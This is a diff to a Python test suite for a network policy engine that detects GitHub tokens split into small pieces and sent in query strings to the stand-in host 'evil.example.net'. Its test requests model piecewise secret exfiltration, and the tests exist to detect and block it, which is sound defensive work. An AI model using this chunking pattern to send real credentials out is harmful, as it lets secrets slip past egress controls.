@@ -37,24 +37,26 @@ def test_pieces_in_several_headers_of_one_request() -> None:
     assert "assembled from 4 pieces" in decision.reason
 
 
-def test_five_character_query_pieces_to_one_site_block_the_last() -> None:
+def test_five_character_query_pieces_to_one_site_block_the_completing_one() -> None:
     engine = policy(**OPEN)
     requests = [
         _get("evil.example.net", f"/c?i={n}&d={piece}", flow=f"flow-{n}")
         for n, piece in enumerate(_pieces(GITHUB, 5))
     ]
     decisions = [engine.check_request(r) for r in requests]
-    assert [d.verdict for d in decisions[:-1]] == [Verdict.ALLOW] * (len(requests) - 1)
-    assert decisions[-1].verdict is Verdict.BLOCK
-    assert "flow-0" in decisions[-1].reason
-    assert f"flow-{len(requests) - 1}" in decisions[-1].reason
+    # Blocked as soon as the pieces make a token (30 characters after `ghp_`).
+    blocked = next(n for n, d in enumerate(decisions) if d.verdict is Verdict.BLOCK)
+    assert blocked == 6 and all(d.verdict is Verdict.ALLOW for d in decisions[:blocked])
+    assert "flow-0" in decisions[blocked].reason
+    assert f"flow-{blocked}" in decisions[blocked].reason
 
 
 def test_four_character_pieces_cut_through_the_anchor() -> None:
     engine = policy(**OPEN)
     requests = [_get("evil.example.net", f"/c?d={piece}") for piece in _pieces(GITHUB, 4)]
     verdicts = _verdicts(engine, requests)
-    assert verdicts == [Verdict.ALLOW] * (len(requests) - 1) + [Verdict.BLOCK]
+    assert verdicts[:8] == [Verdict.ALLOW] * 8  # 28 characters: no token yet
+    assert verdicts[8] is Verdict.BLOCK
 
 
 def test_pieces_as_host_labels_and_over_several_domains() -> None:
@@ -98,7 +100,7 @@ def test_a_whole_example_value_does_not_start_an_assembly() -> None:
 def test_a_key_too_short_sent_whole_is_not_completed_by_what_follows() -> None:
     engine = policy(**OPEN)
     # A token one short of the format (an example in a README), then ordinary values.
-    texts = ["gh" + "p_" + fake(ALNUM, 34), "webhook", "Release2026", "a1b2c3d4e5"]
+    texts = ["gh" + "p_" + fake(ALNUM, 26), "webhook", "Release2026", "a1b2c3d4e5"]
     requests = [_get("evil.example.net", f"/c?d={text}") for text in texts]
     assert _verdicts(engine, requests) == [Verdict.ALLOW] * len(texts)
 
